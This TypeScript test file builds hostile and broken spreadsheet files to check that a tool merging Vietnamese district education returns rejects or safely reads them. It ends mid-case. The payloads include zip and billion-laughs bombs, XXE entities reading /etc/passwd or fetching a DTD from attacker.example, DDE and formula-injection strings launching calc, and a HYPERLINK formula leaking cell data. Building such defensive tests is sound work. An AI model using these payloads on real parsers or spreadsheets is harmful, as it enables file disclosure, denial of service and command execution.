/**
 * Test-only: a corpus of hostile and broken returns, made by code (no binary fixture is
 * committed). Each case is a file an office may really receive (a photo, an old .xls, a
 * password-protected workbook, the same file twice…) or one built to hurt a reader (zip and
 * XML bombs, external entities, formula injection, absurd sizes), together with what a merge
 * must make of it.
 *
 * Units: the good returns a test adds come from examples/huong-thuy-2017 (Phú Bài, Thủy Châu,
 * Thủy Vân); every accepted case here uses another roster unit (or, for formula injection, a
 * name off the roster), one Mẫu 2 and at most one Mẫu 1 each, so no case supersedes another
 * and the expected totals are plain sums. The one exception is deliberate: a good return
 * sent twice (`twin`).
 *
 * @example
 * const corpus = buildHostileCorpus({ copyOf: { name, bytes, unit }, toTruncate: bytes });
 * for (const c of corpus)
 *   if (c.bytes !== "directory") returnFromBytes(c.bytes, { file: c.name }, HUONG_THUY_2017);
 */
import { strToU8 } from "fflate";
import { INDICATOR_IDS, type FindingCode, type FormId, type IndicatorId } from "../../src/core";
import { MAX_CELLS, MAX_SHARED_STRINGS, MAX_SHEETS, MAX_ZIP_ENTRIES } from "../../src/xlsx/read";
import { unitValues } from "../../scripts/make-examples";
import { layOutMau1, layOutMau2, type Cells } from "../xlsx/returns/corpus";
import {
  BOMB_INFLATED_BYTES,
  buildCfb,
  deflatedEntry,
  entriesOf,
  odsPackage,
  storedEntry,
  writeRawZip,
  zip,
  zipBombStream,
  type RawEntry,
} from "./raw-containers";
import { xlsxParts, type CellSpec, type SheetSpec } from "./xlsx-builder";

/** What a merge must make of one case. */
export interface HostileExpectation {
  readonly status: "accepted" | "superseded" | "rejected";
  /** Every finding code the file gets, sorted (an accepted clean file has none). */
  readonly codes: readonly FindingCode[];
  /** Parameters the first finding must carry (a subset). */
  readonly params?: Readonly<Record<string, string | number>>;
  /** The roster unit (or the name read) the file is counted for. */
  readonly unit?: string;
  readonly forms?: readonly FormId[];
  /** Accepted Mẫu 2: what each indicator adds to the totals (null: an error, left out). */
  readonly counted?: Readonly<Record<IndicatorId, number | null>>;
  /** Accepted Mẫu 1: how many of its rows reach the district's schedule. */
  readonly scheduleRows?: number;
  /**
   * Substrings the Vietnamese text of the file's first finding must hold, besides the file's
   * name: what is wrong and what to do.
   */
  readonly says?: readonly string[];
  /**
   * Another file of the merge with the same bytes: either may be taken, so the expected
   * outcome is this one's alone; beside its twin, one is accepted and the other superseded
   * by it.
   */
  readonly twin?: string;
}

export interface HostileCase {
  /** Short kebab-case id, for test titles. */
  readonly id: string;
  /** What the case is, in a few words. */
  readonly title: string;
  /** The file name as received; may hold a folder (`zalo/mau1.xlsx`) or odd characters. */
  readonly name: string;
  /** The file's bytes, or a folder that carries a workbook's name (only a path can be that). */
  readonly bytes: Uint8Array | "directory";
  readonly expected: HostileExpectation;
}

export interface CorpusInput {
  /** A good return sent twice: the copy is added under another name, same bytes. */
  readonly copyOf: { readonly name: string; readonly bytes: Uint8Array; readonly unit: string };
  /** A good return's bytes to cut short. */
  readonly toTruncate: Uint8Array;
}

// ---------------------------------------------------------------------------------------
// Returns laid out by hand (see test/xlsx/returns/corpus.ts), with metadata when asked.

const MAU2_SAVED = new Date("2017-10-10T02:00:00Z");
const MAU1_SAVED = new Date("2017-09-28T02:00:00Z");
const CAMPAIGN_ID = "huong-thuy-2017";

type Counts = Record<IndicatorId, number>;

/** Plausible numbers for one unit (no warning), as `unitValues` of the examples gives them. */
function countsFor(seed: number): Counts {
  const values = unitValues(seed);
  return Object.fromEntries(
    INDICATOR_IDS.map((id) => [id, values[id] as number])
  ) as unknown as Counts;
}

interface MetadataSpec {
  templateVersion?: string;
  campaign?: string;
  year?: string;
  unit?: string;
  mau1?: string;
  mau2?: string;
}

/** The hidden sheet of a generated template, written by hand. */
function metadataSheet(meta: MetadataSpec): SheetSpec {
  const rows: [string, string | undefined][] = [
    ["schema", "tonghop-template"],
    ["templateVersion", meta.templateVersion ?? "1"],
    ["campaign", meta.campaign ?? CAMPAIGN_ID],
    ["year", meta.year ?? "2017"],
    ["unit", meta.unit],
    ["sheet.mau1", meta.mau1],
    ["sheet.mau2", meta.mau2],
  ];
  const cells: Cells = {};
  rows
    .filter((row): row is [string, string] => row[1] !== undefined)
    .forEach(([key, value], i) => {
      cells[`A${i + 1}`] = key;
      cells[`B${i + 1}`] = { inline: value };
    });
  return { name: "_TongHop", state: "veryHidden", cells };
}

interface Mau2Spec {
  /** The unit's line at the top left ("TRUNG TÂM HTCĐ PHƯỜNG THỦY DƯƠNG"). */
  header: string;
  values: Partial<Record<IndicatorId, CellSpec>>;
  notes?: Partial<Record<IndicatorId, string>>;
  texts?: { direction?: string[]; difficulties?: string[]; proposals?: string[] };
  metadata?: MetadataSpec;
  /** More cells on the form's sheet (far below it, say). */
  extraCells?: Cells;
  extraSheets?: SheetSpec[];
  mau1?: Mau1Spec;
}

interface Mau1Spec {
  header: string;
  rows: [CellSpec, CellSpec, CellSpec, CellSpec, CellSpec][];
  extraCells?: Cells;
}

const day = (d: number): CellSpec => ({
  date: new Date(Date.UTC(2017, 9, d)),
  numFmt: "dd/mm/yyyy",
});

function mau2Sheet(spec: Mau2Spec): SheetSpec {
  const layout = layOutMau2({
    unitLines: [spec.header, "HOẶC TRƯỜNG……"],
    values: spec.values,
    ...(spec.notes ? { notes: spec.notes } : {}),
    ...(spec.texts ? { texts: spec.texts } : {}),
  });
  return { name: "Mẫu 2", cells: { ...layout.cells, ...spec.extraCells }, merges: layout.merges };
}

function mau1Sheet(spec: Mau1Spec): SheetSpec {
  const layout = layOutMau1({ unitLine: spec.header, rows: spec.rows });
  return { name: "Mẫu 1", cells: { ...layout.cells, ...spec.extraCells } };
}

/** The parts of a hand-made Mẫu 2 (and Mẫu 1, when given) saved before the deadline. */
function mau2Parts(spec: Mau2Spec): Record<string, string> {
  const sheets = [mau2Sheet(spec)];
  if (spec.mau1) sheets.push(mau1Sheet(spec.mau1));
  sheets.push(...(spec.extraSheets ?? []));
  if (spec.metadata) sheets.push(metadataSheet(spec.metadata));
  return xlsxParts({ sheets, modified: MAU2_SAVED, application: "Microsoft Excel" });
}

function mau1Parts(spec: Mau1Spec): Record<string, string> {
  return xlsxParts({ sheets: [mau1Sheet(spec)], modified: MAU1_SAVED, application: "LibreOffice" });
}

const ACTIVITIES: Mau1Spec["rows"] = [
  ["07:30", day(2), "Nhà văn hóa", "Lễ phát động Tuần lễ", ""],
  ["14:00", day(4), "Trường Tiểu học", "Tọa đàm xây dựng xã hội học tập", ""],
];

/** A part's text with one match replaced, failing loudly when the pattern is not there. */
function edit(
  xml: string,
  pattern: string | RegExp,
  replacement: string | ((match: string, ...groups: string[]) => string)
): string {
  // A function keeps "$" in the replacement literal (formulas hold "$A$1").
  const out =
    typeof replacement === "string"
      ? xml.replace(pattern, () => replacement)
      : xml.replace(pattern, replacement);
  if (out === xml) throw new Error(`hostile-corpus: pattern ${String(pattern)} not found`);
  return out;
}

const SHEET1 = "xl/worksheets/sheet1.xml";
const SST = "xl/sharedStrings.xml";

/** Replaces the content of `<sheetData>` (keeps the form's own rows when `keep`). */
function withRows(xml: string, rows: string, keep = true): string {
  return edit(
    xml,
    /<sheetData>([\s\S]*)<\/sheetData>/,
    (_m, own: string) => `<sheetData>${keep ? own : ""}${rows}</sheetData>`
  );
}

// ---------------------------------------------------------------------------------------
// Hostile XML.

const LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`
  ).join("") +
  "]>";
const XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const XXE_PARAMETER =
  '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]>';

/** Puts a DOCTYPE after the XML declaration and an entity reference in the first text. */
function withDoctype(xml: string, doctype: string, entity: string, where: RegExp): string {
  const declared = edit(xml, /^(<\?xml[^>]*\?>)/, (_m, decl: string) => decl + doctype);
  return edit(declared, where, (m) => m.replace(/>$/, `>&${entity};`));
}

// ---------------------------------------------------------------------------------------
// Formula-like text: what a spreadsheet would run if it were written as a formula.

/** Texts that a spreadsheet program would take as formulas, DDE calls or links. */
export const FORMULA_TEXTS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
  "-2+3+cmd|' /C notepad'!A0",
  "=1+1",
  '=WEBSERVICE("http://attacker.example/")',
  "\t=1+2",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
] as const;

/** The unit name a hostile form claims in its metadata. */
export const FORMULA_UNIT = "=cmd|' /C calc'!A0";
/** The name of the file that carries it (a valid file name on Linux and macOS: no slash). */
export const FORMULA_FILE = `=HYPERLINK("attacker.example")+cmd|' -c calc'!A0.xlsx`;

// ---------------------------------------------------------------------------------------

const counted = (counts: Counts, errors: Partial<Record<IndicatorId, null | number>> = {}) =>
  ({ ...counts, ...errors }) as Record<IndicatorId, number | null>;

const PRNG = (seed: number): (() => number) => {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 0x100000000;
  };
};

/** `[Content_Types].xml` as a macro-enabled workbook (.xlsm) declares its parts. */
function macroEnabled(types: string): string {
  return edit(
    edit(
      types,
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
      "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ),
    "</Types>",
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
  );
}

const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** Every case of the corpus, in a fixed order. */
export function buildHostileCorpus(input: CorpusInput): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (c: HostileCase): void => {
    cases.push(c);
  };
  const rejected = (
    code: FindingCode,
    says: string[],
    params?: Record<string, string | number>
  ): HostileExpectation => ({
    status: "rejected",
    codes: [code],
    says,
    ...(params ? { params } : {}),
  });
  const RESAVE = "lưu lại dạng Sổ làm việc Excel (.xlsx)";

  // --- Not a workbook at all --------------------------------------------------------------
  add({
    id: "zero-bytes",
    title: "a 0-byte file",
    name: "rong-0-byte.xlsx",
    bytes: new Uint8Array(0),
    expected: rejected("empty_file", ["0 byte", "Hãy đề nghị đơn vị gửi lại"]),
  });
  add({
    id: "text-named-xlsx",
    title: "a text file named .xlsx",
    name: "xa-thuy-tan-bao-cao.txt.xlsx",
    bytes: strToU8("Kính gửi Phòng GD&ĐT: báo cáo gửi kèm qua Zalo, xin xem ảnh chụp.\n"),
    expected: rejected("not_a_zip", ["tệp văn bản", "Hãy đề nghị đơn vị gửi đúng tệp .xlsx"], {
      detected: "text",
    }),
  });
  add({
    id: "pdf-named-xlsx",
    title: "a PDF renamed to .xlsx",
    name: "bao-cao-ky-dong-dau.xlsx",
    bytes: strToU8(
      "%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    ),
    expected: rejected("not_a_zip", ["tệp PDF", "Hãy đề nghị đơn vị gửi đúng tệp .xlsx"], {
      detected: "pdf",
    }),
  });
  add({
    id: "png-named-xlsx",
    title: "a PNG photo renamed to .xlsx",
    name: "anh-chup-bao-cao.xlsx",
    bytes: new Uint8Array([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0,
      1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde,
    ]),
    expected: rejected("not_a_zip", ["ảnh", "Hãy đề nghị đơn vị gửi đúng tệp .xlsx"], {
      detected: "png",
    }),
  });
  add({
    id: "html-named-xls",
    title: "an HTML table saved as .xls by a web portal",
    name: "xuat-tu-cong-thong-tin.xls",
    bytes: strToU8(
      '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body><table><tr><td>Kế hoạch</td><td>1</td></tr></table></body></html>'
    ),
    expected: rejected("not_a_zip", ["trang web", RESAVE], { detected: "html" }),
  });
  add({
    id: "spreadsheetml-2003",
    title: "an Excel 2003 XML spreadsheet",
    name: "bao-cao-excel-2003.xml.xls",
    bytes: strToU8(
      '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data ss:Type="String">Kế hoạch</Data></Cell></Row></Table></Worksheet></Workbook>'
    ),
    expected: rejected("not_a_zip", ["XML 2003", RESAVE], { detected: "spreadsheetml_2003" }),
  });
  const next = PRNG(2017);
  const noise = Uint8Array.from({ length: 8192 }, () => Math.floor(next() * 256));
  noise[0] = 0x01;
  add({
    id: "random-bytes",
    title: "random bytes",
    name: "tep-hong.xlsx",
    bytes: noise,
    expected: rejected("not_a_zip", ["không rõ loại", "Hãy đề nghị đơn vị gửi đúng tệp .xlsx"], {
      detected: "binary",
    }),
  });
  add({
    id: "rar-named-xlsx",
    title: "a RAR archive renamed to .xlsx",
    name: "bao-cao-nen.xlsx",
    bytes: new Uint8Array([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00, 0, 0, 0, 0]),
    expected: rejected("not_a_zip", ["tệp nén", "giải nén"], { detected: "archive" }),
  });

  // --- Zips that are damaged or lie ---------------------------------------------------------
  add({
    id: "truncated",
    title: "a return cut short (an interrupted download)",
    name: "mau2-tai-do.xlsx",
    bytes: input.toTruncate.slice(0, Math.floor(input.toTruncate.length * 0.6)),
    expected: rejected("truncated", ["cắt cụt", "Hãy tải lại tệp"]),
  });
  const goodParts = mau2Parts({ header: "TRUNG TÂM HTCĐ XÃ THỦY TÂN", values: countsFor(30) });
  const sheetEntry = deflatedEntry(SHEET1, goodParts[SHEET1]);
  const withSheet = (sheet: RawEntry): Uint8Array =>
    writeRawZip(entriesOf(goodParts).map((e) => (e.name === SHEET1 ? sheet : e)));
  add({
    id: "stored-size-lie",
    title: "a stored entry whose declared size lies",
    name: "kich-thuoc-sai.xlsx",
    bytes: withSheet({ ...storedEntry(SHEET1, goodParts[SHEET1]), size: 1_000_000 }),
    expected: rejected("corrupt_zip", ["bị hỏng", "Hãy đề nghị đơn vị gửi lại"]),
  });
  add({
    id: "lzma-entry",
    title: "a sheet compressed with LZMA (method 14)",
    name: "nen-lzma.xlsx",
    bytes: withSheet({ ...sheetEntry, method: 14 }),
    expected: rejected("unsupported_compression", ["nén theo cách không chuẩn", RESAVE], {
      method: 14,
    }),
  });
  add({
    id: "aes-zip-entry",
    title: "a zip encrypted with a password (WinZip AES)",
    name: "nen-co-mat-khau.xlsx",
    bytes: withSheet({ ...sheetEntry, method: 99, flags: 1 }),
    expected: rejected("encrypted", ["mật khẩu", "gỡ mật khẩu"]),
  });
  const withoutSheet = { ...goodParts };
  delete (withoutSheet as Record<string, string>)[SHEET1];
  add({
    id: "missing-sheet-part",
    title: "a workbook whose sheet part is missing",
    name: "thieu-trang.xlsx",
    bytes: zip(withoutSheet),
    expected: rejected("missing_part", [SHEET1, RESAVE], { part: SHEET1 }),
  });
  add({
    id: "docx-named-xlsx",
    title: "a Word document renamed to .xlsx",
    name: "bao-cao-word.xlsx",
    bytes: zip({
      "[Content_Types].xml":
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      "_rels/.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
      "word/document.xml":
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p></w:body></w:document>',
    }),
    expected: rejected("not_a_workbook", ["Word", "Hãy đề nghị đơn vị gửi đúng tệp biểu mẫu"]),
  });

  // --- Bombs ---------------------------------------------------------------------------------
  const bomb = zipBombStream();
  const bombEntry = (size: number): RawEntry => ({
    name: SHEET1,
    data: bomb,
    method: 8,
    size,
    crc: 0,
  });
  add({
    id: "zip-bomb",
    title: "a zip bomb: 1 MB whose sheet inflates to 1.1 GB (declared honestly)",
    name: "zip-bomb.xlsx",
    bytes: withSheet(bombEntry(BOMB_INFLATED_BYTES)),
    expected: rejected("too_large", ["quá lớn", "64 MB", "Hãy"], { limit: "part_bytes" }),
  });
  add({
    id: "zip-bomb-lying",
    title: "a zip bomb that declares 4 KB for its 1.1 GB sheet",
    name: "zip-bomb-khai-gian.xlsx",
    bytes: withSheet(bombEntry(4096)),
    expected: rejected("corrupt_zip", ["bị hỏng", "Hãy đề nghị đơn vị gửi lại"], { part: SHEET1 }),
  });
  add({
    id: "zip-bomb-under-limit",
    title: "a zip bomb that declares 60 MB, just under the part limit",
    name: "zip-bomb-sat-gioi-han.xlsx",
    bytes: withSheet(bombEntry(60 * 1024 * 1024)),
    expected: rejected("corrupt_zip", ["bị hỏng"], { part: SHEET1 }),
  });
  const manyEntries: RawEntry[] = entriesOf(goodParts);
  for (let i = manyEntries.length; i <= MAX_ZIP_ENTRIES; i++)
    manyEntries.push(storedEntry(`xl/media/i${i}.png`, new Uint8Array(0)));
  add({
    id: "too-many-entries",
    title: `a zip of ${MAX_ZIP_ENTRIES + 1} entries`,
    name: "qua-nhieu-muc.xlsx",
    bytes: writeRawZip(manyEntries),
    expected: rejected("too_large", ["hơn 20.000 mục", "Hãy"], { limit: "zip_entries" }),
  });

  // Billion laughs and external entities: a good Mẫu 2 but for the DOCTYPE.
  const laughParts = mau2Parts({ header: "TRUNG TÂM HTCĐ XÃ THỦY TÂN", values: countsFor(31) });
  const firstSheetCell = /<c r="A1"[^>]*>/;
  const firstString = /<si><t[^>]*>/;
  const xmlCase = (
    id: string,
    title: string,
    part: string,
    doctype: string,
    entity: string,
    where: RegExp
  ): void =>
    add({
      id,
      title,
      name: `${id}.xlsx`,
      bytes: zip({
        ...laughParts,
        [part]: withDoctype(laughParts[part], doctype, entity, where),
      }),
      expected: rejected("malformed_xml", [`bị hỏng ở phần ${part}`, RESAVE], { part }),
    });
  xmlCase(
    "billion-laughs-sheet",
    "billion laughs in the sheet XML",
    SHEET1,
    LAUGHS,
    "lol9",
    firstSheetCell
  );
  xmlCase(
    "billion-laughs-shared-strings",
    "billion laughs in sharedStrings",
    SST,
    LAUGHS,
    "lol9",
    firstString
  );
  xmlCase(
    "xxe-sheet",
    "an external entity (file:///etc/passwd) in the sheet XML",
    SHEET1,
    XXE,
    "xxe",
    firstSheetCell
  );
  xmlCase(
    "xxe-shared-strings",
    "an external entity in sharedStrings",
    SST,
    XXE,
    "xxe",
    firstString
  );
  add({
    id: "xxe-parameter-workbook",
    title: "a remote parameter entity in workbook.xml",
    name: "xxe-parameter-workbook.xlsx",
    bytes: zip({
      ...laughParts,
      "xl/workbook.xml": edit(
        laughParts["xl/workbook.xml"],
        /^(<\?xml[^>]*\?>)/,
        (_m, decl: string) => decl + XXE_PARAMETER
      ),
    }),
    expected: rejected("malformed_xml", ["xl/workbook.xml", RESAVE], { part: "xl/workbook.xml" }),
  });
  add({
    id: "ods-billion-laughs",
    title: "an .ods whose content.xml expands entities",
    name: "bao-cao-libreoffice.ods",
    bytes: odsPackage(
      '<table:table table:name="Mẫu 2"><table:table-row><table:table-cell office:value-type="string"><text:p>&lol9;</text:p></table:table-cell></table:table-row></table:table>',
      LAUGHS
    ),
    expected: rejected("malformed_xml", ["content.xml", RESAVE], { part: "content.xml" }),
  });
  add({
    id: "ods-space-bomb",
    title: "an .ods cell of 4 KB that spells out 600 million spaces",
    name: "khoang-trang.ods",
    bytes: odsPackage(
      `<table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>${'<text:s text:c="10000"/>'.repeat(60_000)}</text:p></table:table-cell></table:table-row></table:table>`
    ),
    expected: rejected("too_large", ["32.767 ký tự", "Hãy"], { limit: "cell_text" }),
  });
  add({
    id: "ods-repeat-bomb",
    title: "an .ods row of 16,384 cells repeated 1,048,576 times",
    name: "lap-hang.ods",
    bytes: odsPackage(
      '<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row></table:table>'
    ),
    expected: rejected("too_large", ["ô có dữ liệu", "Hãy"], { limit: "cells" }),
  });
  const longFormula = `SUM(${Array.from({ length: 1500 }, (_, i) => `A${i + 1}`).join("+")})`;
  const sharedRows: string[] = [
    `<row r="1"><c r="B1"><f t="shared" si="0" ref="B1:B100000">${longFormula}</f><v>1</v></c></row>`,
  ];
  for (let r = 2; r <= 100_000; r++)
    sharedRows.push(`<row r="${r}"><c r="B${r}"><f t="shared" si="0"/><v>1</v></c></row>`);
  add({
    id: "shared-formula-bomb",
    title: "a 7,900-character shared formula used by 100,000 cells",
    name: "cong-thuc-chia-se.xlsx",
    bytes: zip({ ...goodParts, [SHEET1]: withRows(goodParts[SHEET1], sharedRows.join(""), false) }),
    expected: rejected("too_large", ["công thức dùng chung", "Hãy"], {
      limit: "shared_formula_chars",
    }),
  });
  add({
    id: "huge-cell-string",
    title: "a note of 20 million characters in one cell",
    name: "ghi-chu-qua-dai.xlsx",
    bytes: zip({
      ...goodParts,
      [SHEET1]: withRows(
        goodParts[SHEET1],
        `<row r="200"><c r="D200" t="inlineStr"><is><t>${"Ghi chú rất dài. ".repeat(1_250_000)}</t></is></c></row>`
      ),
    }),
    expected: rejected("too_large", ["32.767 ký tự", "Hãy"], { limit: "cell_text" }),
  });
  const cellRows: string[] = [];
  const perRow = 10;
  for (let r = 1; r <= Math.ceil((MAX_CELLS + 1) / perRow); r++) {
    let cells = "";
    for (let c = 0; c < perRow; c++)
      cells += `<c r="${String.fromCharCode(65 + c)}${r}"><v>${c}</v></c>`;
    cellRows.push(`<row r="${r}">${cells}</row>`);
  }
  add({
    id: "too-many-cells",
    title: `more than ${MAX_CELLS} filled cells`,
    name: "qua-nhieu-o.xlsx",
    bytes: zip({ ...goodParts, [SHEET1]: withRows(goodParts[SHEET1], cellRows.join(""), false) }),
    expected: rejected("too_large", ["ô có dữ liệu", "Hãy"], { limit: "cells" }),
  });
  add({
    id: "too-many-shared-strings",
    title: `more than ${MAX_SHARED_STRINGS} shared strings`,
    name: "qua-nhieu-chuoi.xlsx",
    bytes: zip({
      ...goodParts,
      [SST]: edit(
        goodParts[SST],
        "</sst>",
        `${"<si><t>x</t></si>".repeat(MAX_SHARED_STRINGS)}</sst>`
      ),
    }),
    expected: rejected("too_large", ["chuỗi chữ", "Hãy"], { limit: "shared_strings" }),
  });
  add({
    id: "too-many-sheets",
    title: `a workbook listing ${MAX_SHEETS + 1} sheets`,
    name: "qua-nhieu-trang.xlsx",
    bytes: zip({
      ...goodParts,
      "xl/workbook.xml": edit(
        goodParts["xl/workbook.xml"],
        "</sheets>",
        `${Array.from({ length: MAX_SHEETS }, (_, i) => `<sheet name="T${i}" sheetId="${i + 2}" r:id="rId1"/>`).join("")}</sheets>`
      ),
    }),
    expected: rejected("too_large", ["trang tính", "Hãy"], { limit: "sheets" }),
  });
  add({
    id: "row-past-the-last",
    title: "a cell in row 1,048,577",
    name: "hang-1048577.xlsx",
    bytes: zip({
      ...goodParts,
      [SHEET1]: withRows(goodParts[SHEET1], '<row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
    }),
    expected: rejected("malformed_xml", [SHEET1, RESAVE], { part: SHEET1 }),
  });

  // --- OLE containers -------------------------------------------------------------------
  add({
    id: "encrypted-workbook",
    title: "a password-protected workbook (OLE with EncryptionInfo and EncryptedPackage)",
    name: "mau2-co-mat-khau.xlsx",
    bytes: buildCfb(["\u0006DataSpaces", "EncryptionInfo", "EncryptedPackage"], 4),
    expected: rejected("encrypted", ["mật khẩu", "gỡ mật khẩu"]),
  });
  add({
    id: "legacy-xls",
    title: "an Excel 97–2003 workbook (.xls)",
    name: "mau2-excel-cu.xls",
    bytes: buildCfb(
      ["Workbook", "\u0005SummaryInformation", "\u0005DocumentSummaryInformation"],
      4
    ),
    expected: rejected("legacy_xls", ["Excel cũ (.xls)", RESAVE]),
  });
  add({
    id: "legacy-xls-named-xlsx",
    title: "an Excel 5.0 workbook renamed to .xlsx",
    name: "mau2-excel-5.xlsx",
    bytes: buildCfb(["Book"], 2),
    expected: rejected("legacy_xls", ["Excel cũ (.xls)", RESAVE]),
  });
  add({
    id: "xlsb",
    title: "an Excel binary workbook (.xlsb)",
    name: "mau2-nhi-phan.xlsb",
    bytes: zip({
      "[Content_Types].xml":
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>',
      "_rels/.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.bin"/></Relationships>`,
      "xl/workbook.bin": new Uint8Array([0x83, 0x01, 0x00, 0x80, 0x01, 0x00]),
      "xl/worksheets/sheet1.bin": new Uint8Array([0x81, 0x01, 0x00]),
    }),
    expected: rejected("unsupported_format", ["nhị phân của Excel (.xlsb)", RESAVE], {
      format: "xlsb",
    }),
  });

  // --- Readable, but no form in it ------------------------------------------------------
  const noForm = (id: string, title: string, bytes: Uint8Array): void =>
    add({
      id,
      title,
      name: `${id}.xlsx`,
      bytes,
      expected: {
        status: "rejected",
        codes: ["no_form_found", "unit_unknown"],
        says: ["Không tìm thấy Mẫu 1 hay Mẫu 2", "Hãy dùng biểu mẫu do Phòng gửi"],
      },
    });
  const emptyParts = xlsxParts({ sheets: [{ name: "Sheet1" }] });
  noForm(
    "workbook-without-sheets",
    "a workbook with no sheets at all",
    zip({
      ...emptyParts,
      "xl/workbook.xml": edit(emptyParts["xl/workbook.xml"], /<sheets>.*<\/sheets>/, "<sheets/>"),
    })
  );
  noForm("sheet-without-cells", "a workbook whose only sheet has no cells", zip(emptyParts));
  noForm(
    "workbook-element-only",
    "a workbook part that is one empty element",
    zip({
      ...emptyParts,
      "xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`,
    })
  );

  // Free text just under Excel's cell limit, in 2,000 cells: each looks like a label at first
  // ("Số lớp dạy nghề…"), so a finder that folded and scored it whole would take a minute.
  const longText = "Số lớp dạy nghề ngắn hạn tham gia ".repeat(1000).slice(0, 30_000);
  const longCells: Cells = {};
  for (let r = 1; r <= 1000; r++) {
    longCells[`A${r}`] = longText;
    longCells[`C${r}`] = longText;
  }
  noForm(
    "long-text-in-many-cells",
    "the same 30,000-character text in 2,000 cells",
    zip(xlsxParts({ sheets: [{ name: "Mẫu 2", cells: longCells }] }))
  );

  // --- Accepted: odd but honest content, read as data ---------------------------------------
  const seeds = {
    duong: 11,
    phuong: 12,
    luong: 13,
    thanh: 14,
    bang: 15,
    phu: 16,
    tan: 17,
    son: 18,
    hoa: 19,
  };

  // .xlsm with a VBA project and an Auto_Open name: read as data, the macro never runs.
  {
    const counts = countsFor(seeds.duong);
    const parts: Record<string, string | Uint8Array> = mau2Parts({
      header: "TRUNG TÂM HTCĐ PHƯỜNG THỦY DƯƠNG",
      values: counts,
    });
    parts["[Content_Types].xml"] = macroEnabled(parts["[Content_Types].xml"] as string);
    parts["xl/_rels/workbook.xml.rels"] = edit(
      parts["xl/_rels/workbook.xml.rels"] as string,
      "</Relationships>",
      '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
    );
    parts["xl/workbook.xml"] = edit(
      parts["xl/workbook.xml"] as string,
      "</workbook>",
      '<definedNames><definedName name="Auto_Open">Module1.Auto_Open</definedName></definedNames></workbook>'
    );
    parts["xl/vbaProject.bin"] = buildCfb(["VBA", "PROJECT", "PROJECTwm", "dir", "Module1"], 8);
    add({
      id: "xlsm-with-macros",
      title: "a macro-enabled workbook (.xlsm with vbaProject.bin and Auto_Open)",
      name: "mau2-phuong-thuy-duong.xlsm",
      bytes: zip(parts),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Phường Thủy Dương",
        forms: ["mau2"],
        counted: counted(counts),
      },
    });
  }

  // External links and a DDE formula: the cached values are read, nothing is fetched.
  {
    const counts = countsFor(seeds.phuong);
    const values: Partial<Record<IndicatorId, CellSpec>> = {
      ...counts,
      ke_hoach: { f: "[1]Sheet1!$A$1", v: counts.ke_hoach },
      phong_su: {
        f: "'\\\\attacker.example\\share\\[bao-cao.xlsx]Sheet1'!$B$2",
        v: counts.phong_su,
      },
      to_roi: { f: "cmd|' /C calc'!A0", v: counts.to_roi },
    };
    const parts: Record<string, string | Uint8Array> = mau2Parts({
      header: "TRUNG TÂM HTCĐ PHƯỜNG THỦY PHƯƠNG",
      values,
    });
    parts["xl/workbook.xml"] = edit(
      parts["xl/workbook.xml"] as string,
      "</workbook>",
      '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences></workbook>'
    );
    parts["xl/_rels/workbook.xml.rels"] = edit(
      parts["xl/_rels/workbook.xml.rels"] as string,
      "</Relationships>",
      `<Relationship Id="rIdExt1" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`
    );
    parts["xl/externalLinks/externalLink1.xml"] =
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>999</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>';
